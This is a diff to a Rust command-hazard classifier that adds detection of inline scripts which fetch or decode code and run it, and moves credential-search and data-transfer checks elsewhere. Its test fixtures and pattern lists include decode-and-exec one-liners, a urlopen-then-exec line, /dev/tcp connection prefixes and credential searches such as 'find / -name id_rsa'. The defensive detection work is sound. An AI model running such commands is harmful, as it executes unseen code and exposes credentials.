@@ -4,12 +4,13 @@
 //! What counts are facts of the tables: whose rights a program runs with, whether it changes the machine, which
 //! program another one starts. What a program does that nobody can see, as a script or a build, is none of it.
 
+use super::carries::carries;
+use super::credential_search::searches_credentials;
 use super::destructive;
 use super::invocation::{Invocation, base_name};
 use crate::command_line::{Input, Part, Word, WordKind};
 use crate::mentions;
 use crate::operand_effects;
-use crate::path::{is_credential_name, may_hold, may_match};
 use crate::programs;
 use crate::programs::fact::Fact;
 use crate::programs::name::canonical;
@@ -46,6 +47,8 @@ pub enum Hazard {
     Ownership,
     /// It runs a container with the rights of the machine itself.
     Container(String),
+    /// This program runs a text that it fetches or turns into a program.
+    Unseen(String),
     /// It looks beyond the folder it runs in for files with this name, which hold credentials.
     SearchesCredentials(String),
 }
@@ -56,9 +59,6 @@ const LOADERS: &[&str] = &["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "B
 const HISTORY: &[&str] = &["HISTFILE", "HISTSIZE", "HISTFILESIZE", "HISTCONTROL", "HISTIGNORE", "SAVEHIST"];
 /// Beginnings of names that are connections: bash manual "Redirections"; gawk manual "Using gawk for Network Programming".
 const CONNECTIONS: &[&str] = &["/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/"];
-/// Options of find(1) and fd(1) whose value is a pattern of names.
-const NAME_OPTIONS: &[&str] = &["-name", "-iname", "-path", "-ipath", "-wholename", "-regex"];
-
 impl Hazard {
     /// What it does, as a clause.
     #[must_use]
@@ -76,6 +76,7 @@ impl Hazard {
             Self::Ownership => "it changes whose the file is, or who may write it".to_owned(),
             Self::Container(word) => format!("`{word}` gives a container the rights of this machine"),
             Self::Connection => "it connects what runs here with another machine".to_owned(),
+            Self::Unseen(program) => format!("`{program}` runs what it fetches or decodes, which nobody has seen"),
             Self::SearchesCredentials(name) => {
                 format!("it looks for `{name}`, which holds credentials, outside of the folder it runs in")
             }
@@ -92,10 +93,11 @@ pub fn hazard(part: &Part) -> Option<Hazard> {
         .or_else(|| later(part).map(Hazard::Later))
         .or_else(|| rights(part))
         .or_else(|| container(part))
-        .or_else(|| carries(part))
+        .or_else(|| carries(part).map(Hazard::Carries))
         .or_else(|| connects(part).then_some(Hazard::Connection))
         .or_else(|| searches_credentials(part).map(Hazard::SearchesCredentials))
         .or_else(|| starts(part))
+        .or_else(|| unseen(part))
 }
 
 /// Whether a text among the words of `part`, or on its standard input, may be a program that it runs.
@@ -209,6 +211,7 @@ fn container(part: &Part) -> Option<Hazard> {
     let gives = |word: &&str| {
         word.starts_with("--privileged")
             || *word == "--pid=host"
+            || word.contains("security.privileged=true")
             || word.contains("\"privileged\"")
             || word.contains("hostPID")
     };
@@ -216,43 +219,6 @@ fn container(part: &Part) -> Option<Hazard> {
     let word = invocation.words.iter().copied().find(|word| runs && gives(word))?;
     let word: String = word.chars().take(40).collect();
     Some(Hazard::Container(word))
-}
-
-/// A program that carries data or commands to a machine that is not this one.
-fn carries(part: &Part) -> Option<Hazard> {
-    let invocation = Invocation::of(part)?;
-    let name = canonical(part.program()?);
-    let words = &invocation.words;
-    // scp(1), rsync(1): `host:path`.
-    let is_remote = |word: &&str| word.split_once(':').is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'));
-    let sends_file = |words: &[&str]| {
-        let glued = |word: &&str| {
-            let value = word
-                .strip_prefix("-d")
-                .or_else(|| word.strip_prefix("-F"))
-                .or_else(|| word.split_once('=').map(|(_, v)| v));
-            value.is_some_and(|value| value.starts_with('@') || value.contains("=@"))
-        };
-        let next = words.iter().zip(words.iter().skip(1)).any(|(option, value)| {
-            matches!(*option, "-T" | "--upload-file")
-                || option.starts_with('-') && (value.starts_with('@') || value.contains("=@"))
-        });
-        next || words.iter().any(|word| {
-            glued(word)
-                || word.starts_with("--post-file")
-                || word.starts_with("--body-file")
-                || word.starts_with("--upload-file")
-        })
-    };
-    let carries = match name.as_str() {
-        name if programs::of(name).is(Fact::NamesHosts) => words.iter().any(is_remote),
-        name if programs::of(name).is(Fact::SendsRequests) => sends_file(words),
-        "openssl" => words.first() == Some(&"s_client"),
-        _ => programs::of(&name).is(Fact::Carries),
-    };
-    let here = |word: &&str| ["localhost", "127.0.0.1", "[::1]", "::1"].iter().any(|host| word.contains(host));
-    let only_tells = words.iter().all(|word| matches!(*word, "-V" | "-h" | "--help" | "--version"));
-    (carries && !only_tells && !words.iter().any(here)).then_some(Hazard::Carries(name))
 }
 
 fn connects(part: &Part) -> bool {
@@ -265,43 +231,10 @@ fn connects(part: &Part) -> bool {
     // A program in another language that runs what comes from a connection.
     let holds = |text: &str, parts: &[&str]| parts.iter().any(|part| text.contains(part));
     let serves = |text: &str| {
-        holds(text, &["socket", "Socket", "connect("]) && holds(text, &["popen", "exec", "spawn", "system(", "dup2"])
+        holds(text, &["socket", "Socket", "connect("])
+            && holds(text, &["popen", "exec", "spawn", "system(", "system$", "dup2", "fdopen"])
     };
     texts.iter().any(|text| CONNECTIONS.iter().any(|start| text.contains(start)) || runs && serves(text))
-}
-
-/// The name of the credentials that `find` looks for, in a folder that is not below the one it runs in.
-fn searches_credentials(part: &Part) -> Option<String> {
-    let invocation = Invocation::of(part)?;
-    let words = &invocation.words;
-    let elsewhere = |text: &str| text.starts_with(['/', '~', '$']) || text.split('/').any(|part| part == "..");
-    match programs::called_like(invocation.program) {
-        "find" => {
-            let mut roots = words.iter().take_while(|word| !word.starts_with(['-', '(', '!']));
-            let there = part.folders.iter().any(|folder| elsewhere(folder));
-            let kept = roots.clone().find(|root| elsewhere(root) && may_hold(root)).map(|root| (*root).to_owned());
-            if kept.is_some() || !(there || roots.any(|root| elsewhere(root))) {
-                return kept;
-            }
-            let pairs = words.iter().zip(words.iter().skip(1));
-            let mut patterns = pairs.filter(|(option, _)| NAME_OPTIONS.contains(option)).map(|(_, value)| *value);
-            patterns.find(|pattern| is_for_credentials(pattern)).map(str::to_owned)
-        }
-        "locate" => words.iter().find(|word| is_for_credentials(word)).map(|word| (*word).to_owned()),
-        _ => None,
-    }
-}
-
-/// Whether a pattern of names is meant to find files that hold credentials: `id_rsa`, `*/.aws/credentials`, `.env*`.
-fn is_for_credentials(pattern: &str) -> bool {
-    const KNOWN: &[&str] = &[".env", "id_rsa", "id_ed25519", "credentials", ".netrc", ".git-credentials", ".pgpass"];
-    let last = pattern.rsplit('/').next().unwrap_or(pattern);
-    let literal = last.trim_matches('*');
-    let folder = pattern.split('/').any(|name| matches!(name, ".ssh" | ".aws" | ".gnupg" | ".kube" | ".azure"));
-    let named = is_credential_name(&literal.to_lowercase());
-    // `*` alone finds everything.
-    let found = literal.len() > 3 && KNOWN.iter().any(|name| may_match(last, name));
-    folder || named || found
 }
 
 /// A shell, or a program that runs others as another user, which a program starts that is none.
@@ -337,6 +270,15 @@ fn starts(part: &Part) -> Option<Hazard> {
     if let Some(user) = named.iter().find(|named| is_as_another_user(named)) {
         return Some(Hazard::AnotherUser((*user).clone()));
     }
+    // `sshpass ssh …`: what runs behind a program that runs its words, on this machine.
+    let is = |named: &str, fact: Fact| programs::of(&canonical(named)).is(fact);
+    let runs_here = sure && !is(&name, Fact::RunsElsewhere) && !is(&name, Fact::RunsContainers);
+    if let Some(other) = named.iter().find(|named| runs_here && is(named, Fact::Carries)) {
+        return Some(Hazard::Carries((*other).clone()));
+    }
+    if let Some(other) = named.iter().find(|named| runs_here && is(named, Fact::ChangesMachine)) {
+        return Some(Hazard::Machine((*other).clone()));
+    }
     let path = named.iter().find(|named| named.starts_with('/') && is_shell(base_name(named)) && !is_word(part, named));
     let shell =
         bare.map(|(_, word)| word.text.clone()).or_else(|| path.map(|path| (*path).clone())).or_else(in_text)?;
@@ -357,6 +299,53 @@ fn reads_on(next: Option<&str>) -> bool {
     }
 }
 
+/// A program in another language that runs what it fetches, or what it makes out of letters that nobody reads.
+fn unseen(part: &Part) -> Option<Hazard> {
+    const BRINGS: &[&str] = &[
+        "urlopen(",
+        "urlretrieve(",
+        "requests.get(",
+        "httpx.get(",
+        "fetch(",
+        "LWP::",
+        "open-uri",
+        "file_get_contents(\"http",
+        "file_get_contents('http",
+        "b64decode(",
+        "b85decode(",
+        "a85decode(",
+        "decode_base64(",
+        "base64_decode(",
+        "unhexlify(",
+        "fromhex(",
+        "atob(",
+        "'base64')",
+        "\"base64\")",
+        "marshal.loads(",
+        "decompress(",
+    ];
+    const RUNS: &[&str] = &[
+        "exec(",
+        "eval(",
+        "eval ",
+        "execSync(",
+        "system(",
+        "popen(",
+        "Popen(",
+        "subprocess.",
+        "spawn(",
+        "new Function(",
+    ];
+    if !may_run_text(part) {
+        return None;
+    }
+    let program = canonical(part.program()?);
+    let texts = part.words.iter().skip(1).map(|word| word.text.as_str()).chain(part.given.iter().map(String::as_str));
+    let holds = |text: &str, parts: &[&str]| parts.iter().any(|part| text.contains(part));
+    let mut texts = texts.filter(|text| holds(text, BRINGS) && holds(text, RUNS));
+    texts.next().map(|_| Hazard::Unseen(program))
+}
+
 /// A shell that a program in another language starts: `system("sh")`, `:!sh`, `exec 'bash -i'`, `exec sh 0<&1`.
 fn shell_in(text: &str) -> Option<String> {
     // vim(1), ed(1) and their like: `:shell`.
@@ -370,6 +359,8 @@ fn shell_in(text: &str) -> Option<String> {
     let replaced = before("exec ").chain(before("| ")).chain(before("|"));
     quoted.chain(replaced).find_map(|(at, sign)| {
         let rest = text.get(at..)?.trim_start_matches(['"', '\'']);
+        // psql(1), mysql(1): `\! sh`.
+        let rest = if sign == Some('!') { rest.trim_start_matches(' ') } else { rest };
         let end = rest.find(|letter: char| !(letter.is_ascii_alphanumeric() || letter == '/')).unwrap_or(rest.len());
         let (word, behind) = rest.split_at_checked(end)?;
         let closes = behind.starts_with(['"', '\'', '`', ')', ';']) || behind.is_empty();
@@ -438,6 +429,35 @@ mod tests {
     }
 
     #[test]
+    fn a_text_that_runs_what_it_brings_is_seen_by_nobody() {
+        for line in [
+            "python3 -c 'import base64; exec(base64.b64decode(\"eA==\"))'",
+            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://x.example\").read())'",
+            "node -e 'eval(atob(\"eA==\"))'",
+            "perl -MMIME::Base64 -e 'eval decode_base64(\"eA==\")'",
+            "php -r 'system(base64_decode(\"eA==\"));'",
+        ] {
+            assert!(matches!(found(line), Some(Hazard::Unseen(_))), "{line}: {:?}", found(line));
+        }
+        for line in [
+            "python3 -c 'import base64; print(base64.b64decode(\"eA==\"))'",
+            "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://x.example\").read())'",
+            "node -e 'console.log(eval(\"1+1\"))'",
+            "echo 'exec(b64decode(x))'",
+        ] {
+            assert!(!matches!(found(line), Some(Hazard::Unseen(_))), "{line}: {:?}", found(line));
+        }
+    }
+
+    #[test]
+    fn what_another_program_runs_here_counts_as_if_it_ran_alone() {
+        for line in ["sshpass -p x ssh ann@host", "proxychains nc x.example 80"] {
+            assert!(matches!(found(line), Some(Hazard::Carries(_))), "{line}: {:?}", found(line));
+        }
+        assert!(matches!(found("unbuffer insmod x.ko"), Some(Hazard::Machine(_))));
+    }
+
+    #[test]
     fn modes_that_give_rights_are_told_from_others() {
         for (text, gives) in [
             ("4755", (true, false)),
@@ -455,35 +475,6 @@ mod tests {
             ("src", (false, false)),
         ] {
             assert_eq!(mode(text), gives, "{text}");
-        }
-    }
-
-    #[test]
-    fn a_search_for_credentials_counts_beyond_the_folder_only() {
-        for line in [
-            "find / -name id_rsa",
-            "find .. -name '.env*'",
-            "cd / && find . -name credentials",
-            "find $HOME -iname '*credentials*'",
-            "find ~/.aws -name x",
-            "find / -path '*/.ssh/*'",
-        ] {
-            assert!(matches!(found(line), Some(Hazard::SearchesCredentials(_))), "{line}: {:?}", found(line));
-        }
-        for line in ["find . -name .env", "find / -name '*.rs'", "find src -name credentials.ts", "find / -name '*'"] {
-            assert_eq!(found(line), None, "{line}");
-        }
-    }
-
-    #[test]
-    fn what_stays_on_this_machine_is_carried_nowhere() {
-        for line in ["scp a ann@host:b", "rsync -a src host:b", "curl -d @a https://x.example", "nc x.example 80"] {
-            assert!(matches!(found(line), Some(Hazard::Carries(_))), "{line}: {:?}", found(line));
-        }
-        for line in
-            ["rsync -a src b", "curl -d @a http://localhost:1", "curl -d a=b https://x.example", "nc -z 127.0.0.1 80"]
-        {
-            assert_eq!(found(line), None, "{line}");
         }
     }
 }
